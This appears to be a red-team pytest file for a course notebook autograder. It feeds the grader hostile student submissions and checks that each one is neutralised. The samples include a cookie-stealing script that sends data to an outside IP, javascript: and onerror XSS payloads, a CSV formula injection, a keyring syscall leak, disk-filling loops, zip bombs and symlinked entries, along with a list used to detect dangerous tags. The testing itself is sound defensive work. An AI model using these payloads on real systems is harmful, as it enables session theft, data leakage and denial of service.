"""Red team, second round: attacks on this grader's own design — intake, the instructor's browser,
hidden inputs, the grader's memory, what one student leaves for the next, the class's files.

Each hostile student of notebook 04 is the honest twin (everything right but `conv_output_size`,
which forgets the "+ 1") plus an attack; each must get exactly the twin's scores (or, for attacks
that end the kernel, what ran before), with the victim — the full solution — untouched.
"""

from __future__ import annotations

import csv
import json
import os
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest
from gradekit import build_class, cell, grade_class

from coursekit.grading.collect import collect
from coursekit.notebooks import ASSIGNMENTS, source_notebook, submission_from

A = "04_convolution_by_hand"
ROOT = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.slow

WRONG = (
    "def conv_output_size(n, f, padding=0, stride=1):\n    return (n - f + 2 * padding) // stride\n"
)
ATTACKED = "test_conv_output_size"

# the runner object, as student code can find it in its own process
RUNNER = "import gc\nrunner = next(o for o in gc.get_objects() if type(o).__name__ == 'Runner')\n"

SCRIPT = (
    "<script>window.__pwned = 1; fetch('http://198.51.100.7/steal?c=' + document.cookie)</script>"
)
CELL_ATTACKS = {  # name: code in the answer cell of conv_output_size (after WRONG)
    "raw_html_outputs": RUNNER
    + "runner.outputs.append({'output_type': 'display_data', 'metadata': {}, 'data': {"
    f"'text/html': {SCRIPT!r}, 'application/javascript': 'window.__pwned = 2',"
    "'text/markdown': '[click](javascript:alert(1)) ![x](http://198.51.100.7/x.png)',"
    "'image/svg+xml': '<svg onload=\"alert(3)\"></svg>', 'text/plain': 'looks harmless'}})\n"
    "runner.outputs.append({'output_type': 'stream', 'name': 'stdout', 'text': '<img src=x onerror=alert(4)>'})\n",
    "script_in_exception": "def conv_output_size(n, f, padding=0, stride=1):\n"
    "    raise ValueError('[help](javascript:alert(1)) ![x](http://198.51.100.7/x.png) "
    "<script>window.__pwned = 5</script> <img src=x onerror=alert(6)> =cmd|calc')\n",
    "lone_surrogate": "def conv_output_size(n, f, padding=0, stride=1):\n"
    "    raise ValueError('broken \\ud800 text \\udfff')\n",
    "huge_answer": "import numpy as np\ndef conv_output_size(n, f, padding=0, stride=1):\n"
    "    return np.zeros(12 * 2**20)  # 96 MB, over the 64 MB cap for one answer\n",
    "expanding_json": "def conv_output_size(n, f, padding=0, stride=1):\n"
    "    return [[{}] * 1000] * 3000  # 3 million empty dicts: tiny here, huge as JSON\n",
}
END_ATTACKS = {  # name: a cell the student adds at the end of the notebook (after every test)
    "leak_hidden_inputs": "print('LEAK', len(CALLS), sorted(set(CALLS)))\n"
    "import os\nprint('FILE', open(os.path.expanduser('~/calls.txt')).read().count('\\n'))\n",
    "many_files": "import os\nfor i in range(50_000):\n    open(os.path.expanduser(f'~/f{i}'), 'w').close()\n",
    "fill_home": "import os\nfor i in range(20):  # 1 GB in files of 50 MB (one file may be 64 MB)\n"
    "    with open(os.path.expanduser(f'~/big{i}'), 'wb') as f:\n"
    "        for _ in range(50):\n            f.write(b'x' * 2**20)\n",
    "fill_tmp": "for i in range(60):  # 3 GB\n    with open(f'/tmp/big{i}', 'wb') as f:\n"
    "        for _ in range(50):\n            f.write(b'x' * 2**20)\n",
    "deep_tree": "import os\np = os.path.expanduser('~')\nfor i in range(1500):\n"
    "    p = os.path.join(p, 'd')\n    os.mkdir(p)\nopen(os.path.join(p, 'f'), 'w').write('x' * 10**6)\n",
    "output_flood": ["print('y' * 250_000)\n"] * 300,  # 300 cells, each under the cell's cap
}
LEAK_ANSWER = (
    "import os\nCALLS = []\ndef conv_output_size(n, f, padding=0, stride=1):\n"
    "    CALLS.append((n, f, padding, stride))\n"
    "    with open(os.path.expanduser('~/calls.txt'), 'a') as log:\n"
    "        log.write(f'{n} {f} {padding} {stride}\\n')\n"
    "    return (n - f + 2 * padding) // stride\n"
)


def _student(src, answer: str, end: str | list[str] | None = None):
    nb = submission_from(src, {"answer_conv_output_size": answer})
    if end:
        import nbformat

        for code in [end] if isinstance(end, str) else end:
            nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    work = tmp_path_factory.mktemp("redteam2")
    src = source_notebook(A)
    students = {"victim": submission_from(src), "twin": _student(src, WRONG)}
    for name, code in CELL_ATTACKS.items():
        students[name] = _student(src, WRONG + code if "def conv_output_size" not in code else code)
    for name, code in END_ATTACKS.items():
        students[name] = _student(src, LEAK_ANSWER if name == "leak_hidden_inputs" else WRONG, code)
    cls = build_class(work / "class", A, students)
    # intake: a notebook that is a link to the solution; a student folder that is a link; a FIFO
    (cls / "linked" / A).mkdir(parents=True)
    os.symlink(ROOT / "solutions" / A / f"{A}.ipynb", cls / "linked" / A / f"{A}.ipynb")
    os.symlink(cls / "victim", cls / "linked_folder")
    (cls / "fifo" / A).mkdir(parents=True)
    os.mkfifo(cls / "fifo" / A / f"{A}.ipynb")
    before = {p: p.read_bytes() for p in cls.rglob("*.ipynb") if p.is_file() and not p.is_symlink()}
    result = grade_class(cls, work, overrides={"cell_timeout_s": 60, "notebook_timeout_s": 400})
    return result, work, before


def _scores(s):
    return {e.grade_id: e.score for e in s.exercises}


def test_the_victim_and_the_twin_get_their_scores(graded):
    result, *_ = graded
    victim, twin = result.get("victim"), result.get("twin")
    assert victim.score == victim.max_score and not victim.flagged
    assert twin.score == victim.max_score - twin.exercise(ATTACKED).max_score


@pytest.mark.parametrize("attack", sorted({*CELL_ATTACKS, *END_ATTACKS}))
def test_each_attack_gets_exactly_its_honest_content(graded, attack):
    result, *_ = graded
    s, twin = result.get(attack), result.get("twin")
    assert _scores(s) == _scores(twin), [
        (e.grade_id, e.status, e.message[:200]) for e in s.exercises
    ]
    assert not s.error or attack in END_ATTACKS, s.error


def test_symlinks_and_special_files_are_refused_by_name(graded):
    result, *_ = graded
    linked, fifo = result.get("linked"), result.get("fifo")
    assert linked.score == 0 and all("symbolic link" in e.message for e in linked.exercises)
    assert fifo.score == 0 and all("not a regular file" in e.message for e in fifo.exercises)
    folder = result.get("linked_folder")
    assert folder.score == 0 and "symbolic link" in folder.exercises[0].message


class _Tags(HTMLParser):
    """Every element and attribute of a page, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, dict(attrs)))


def _dangers(page: str) -> list[str]:
    parser = _Tags()
    parser.feed(page)
    found = []
    for tag, attrs in parser.tags:
        if tag in ("script", "iframe", "object", "embed", "svg", "link", "base", "form"):
            found.append(tag)
        for k, v in attrs.items():
            if k.startswith("on"):
                found.append(f"{tag} {k}")
            if (
                k in ("href", "src", "action", "srcset")
                and v
                and not (v.startswith("#") or v.startswith("data:image/png;base64,"))
            ):
                found.append(f"{tag} {k}={v[:40]}")
    return found


def test_no_script_and_no_remote_resource_reaches_the_instructor(graded):
    result, work, _ = graded
    for name in ("raw_html_outputs", "script_in_exception"):
        page = (work / "out" / "feedback" / name / f"{A}.html").read_text()
        assert not _dangers(page), _dangers(page)[:5]
        assert 'http-equiv="Content-Security-Policy"' in page
        nb = json.loads((work / "nbgrader" / "autograded" / name / A / f"{A}.ipynb").read_text())
        mimes = {m for c in nb["cells"] for o in c.get("outputs", []) for m in o.get("data", {})}
        assert mimes <= {"text/plain", "image/png"}, mimes  # what formgrader renders
        summary = nb["cells"][0]["source"]
        assert "](" not in summary and "<script" not in summary and "javascript:" not in summary
    text = json.dumps([c.outputs for c in result.get("raw_html_outputs").cells])
    assert "looks harmless" in text and "text/html" not in text  # kept as plain text only


def test_hidden_inputs_leave_no_trace_in_what_the_student_sees(graded):
    """The student's cell after the tests sees only the calls of the visible checks."""
    from coursekit.grading.testcell import run_test_cell

    calls = []

    def counting(n, f, padding=0, stride=1):
        calls.append((n, f, padding, stride))
        return (n - f + 2 * padding) // stride

    source = cell(source_notebook(A), ATTACKED).source
    run_test_cell(source, {"conv_output_size": counting}, hidden=False)
    result, work, _ = graded
    printed = "".join(
        o.get("text", "") for c in result.get("leak_hidden_inputs").cells for o in c.outputs
    )
    assert f"LEAK {len(calls)} " in printed, printed[-500:]
    assert f"FILE {len(calls)}" in printed, printed[-500:]
    line = next(ln for ln in printed.splitlines() if ln.startswith("LEAK"))
    shown = {tuple(map(int, t)) for t in re.findall(r"\((\d+), (\d+), (\d+), (\d+)\)", line)}
    assert shown == set(calls), shown ^ set(calls)


def test_caps_on_disk_files_tmp_and_output(graded):
    result, work, _ = graded
    many = result.get("many_files")
    assert "more than 10000 files" in json.dumps([c.outputs for c in many.cells])
    for name in ("fill_home", "fill_tmp"):
        text = json.dumps([c.outputs for c in result.get(name).cells])
        assert "No space left on device" in text or "Errno 28" in text, text[-300:]
    flood = work / "out" / "feedback" / "output_flood" / f"{A}.html"
    assert flood.stat().st_size < 4 * 2**20 and "left out" in flood.read_text()
    big = result.get("huge_answer").exercise(ATTACKED)
    assert "cap" in big.message, big.message


def test_the_class_files_stay_writable_and_clean(graded):
    result, work, before = graded
    rows = list(csv.DictReader((work / "out" / "exercises.csv").open(encoding="utf-8")))
    surrogate = [
        r for r in rows if r["student_id"] == "lone_surrogate" and r["grade_id"] == ATTACKED
    ][0]
    assert "broken" in surrogate["message"]
    bad = [
        r for r in rows if r["student_id"] == "script_in_exception" and r["grade_id"] == ATTACKED
    ][0]
    assert not bad["message"].startswith(("=", "+", "-", "@"))
    assert all(r["status"] != "error" or "internal" not in r["message"] for r in rows)
    for path, data in before.items():
        assert path.read_bytes() == data, f"{path} was changed"
    again = grade_class(work / "class", work)  # resumed from the result files: still writable
    assert (work / "out" / "exercises.csv").read_text(encoding="utf-8")
    assert again.get("lone_surrogate").score == result.get("lone_surrogate").score


def test_no_home_folder_is_left_on_the_host(graded):
    import tempfile

    left = [p for p in Path(tempfile.gettempdir()).glob("coursekit-kernel-*") if p.is_dir()]
    assert all(sum(1 for _ in p.rglob("*")) < 50 for p in left), left[:3]


# --- the uid's keyring: nothing survives from one student to the next --------------------------

KEYS = (
    "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
    "import platform\nADD, REQ, CTL = (248, 249, 250) if platform.machine() == 'x86_64' else (217, 218, 219)\n"
)
WRITER = KEYS + (
    "ok = libc.syscall(ADD, b'user', b'leak', b'secret-A', 8, -4)\n"
    "print('ADD', ok, ctypes.get_errno())\n"
)
READER = KEYS + "print('FOUND', libc.syscall(REQ, b'user', b'leak', None, 0))\n"


def test_the_keyring_is_closed_so_nothing_passes_to_the_next_student(tmp_path):
    src = source_notebook(A)
    cls = build_class(
        tmp_path / "class",
        A,
        {"k1_writer": _student(src, WRONG, WRITER), "k2_reader": _student(src, WRONG, READER)},
    )
    result = grade_class(cls, tmp_path, workers=1)  # one grading process: one uid for both
    out = {
        s: "".join(o.get("text", "") for c in result.get(s).cells for o in c.outputs)
        for s in ("k1_writer", "k2_reader")
    }
    assert "ADD -1 1" in out["k1_writer"], out["k1_writer"][-300:]  # EPERM
    assert "FOUND -1" in out["k2_reader"], out["k2_reader"][-300:]


# --- intake: a zip that is a bomb, entries that are wrong: one entry's problem each ---------------


def _zip(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return path


def test_a_zip_bomb_is_refused_entry_by_entry_without_holding_it(tmp_path):
    import tracemalloc

    ok = json.dumps({"cells": []}).encode()
    bomb = _zip(
        tmp_path / "bomb.zip",
        {**{f"s{i}_{A}.ipynb": b" " * (300 << 20) for i in range(4)}, f"fine_{A}.ipynb": ok},
    )
    assert bomb.stat().st_size < 2 << 20
    tracemalloc.start()
    jobs, _ = collect(
        bomb,
        list(ASSIGNMENTS),
        r"^(?P<student>[^/]+?)_(?P<assignment>\d\d_[a-z0-9_]+)\.ipynb$",
        max_file_mb=20,
        max_total_mb=100,
    )
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 64 << 20, f"held {peak >> 20} MB"
    by = {j.student_id: j for j in jobs}
    assert by["fine"].raw == ok and not by["fine"].error
    assert all("larger than 20 MB" in by[f"s{i}"].error for i in range(4))


@pytest.mark.parametrize("bad", ["with space", "accentué", "esc\x1b[31m", "newline\n", "tab\t"])
def test_one_bad_id_in_a_zip_is_that_entry_s_warning_not_the_class_s(tmp_path, bad):
    ok = json.dumps({"cells": []}).encode()
    z = _zip(tmp_path / "class.zip", {f"{bad}_{A}.ipynb": ok, f"ana_{A}.ipynb": ok})
    jobs, warnings = collect(
        z,
        list(ASSIGNMENTS),
        r"^(?:.*/)?(?P<student>[^/]+?)_(?P<assignment>\d\d_[a-z0-9_]+)\.ipynb$",
    )
    assert [j.student_id for j in jobs] == ["ana"]
    assert len(warnings) == 1 and "\x1b" not in warnings[0] and "\n" not in warnings[0]


def test_two_files_for_one_student_are_that_student_s_error(tmp_path):
    ok = json.dumps({"cells": []}).encode()
    z = _zip(
        tmp_path / "class.zip",
        {f"ana_{A}.ipynb": ok, f"sub/ana_{A}.ipynb": ok, f"ben_{A}.ipynb": ok},
    )
    jobs, _ = collect(
        z,
        list(ASSIGNMENTS),
        r"^(?:.*/)?(?P<student>[^/]+?)_(?P<assignment>\d\d_[a-z0-9_]+)\.ipynb$",
    )
    by = {j.student_id: j for j in jobs}
    assert (
        set(by) == {"ana", "ben"}
        and "two or more submissions" in by["ana"].error
        and not by["ben"].error
    )


def test_a_symlink_entry_in_a_zip_is_refused(tmp_path):
    z = tmp_path / "class.zip"
    with zipfile.ZipFile(z, "w") as zf:
        info = zipfile.ZipInfo(f"eve_{A}.ipynb")
        info.external_attr = 0o120777 << 16  # a symbolic link
        zf.writestr(info, str(ROOT / "solutions" / A / f"{A}.ipynb"))
        zf.writestr(f"ana_{A}.ipynb", b"{}")
    jobs, _ = collect(
        z,
        list(ASSIGNMENTS),
        r"^(?:.*/)?(?P<student>[^/]+?)_(?P<assignment>\d\d_[a-z0-9_]+)\.ipynb$",
    )
    by = {j.student_id: j for j in jobs}
    assert "symbolic link" in by["eve"].error and by["eve"].raw == b""
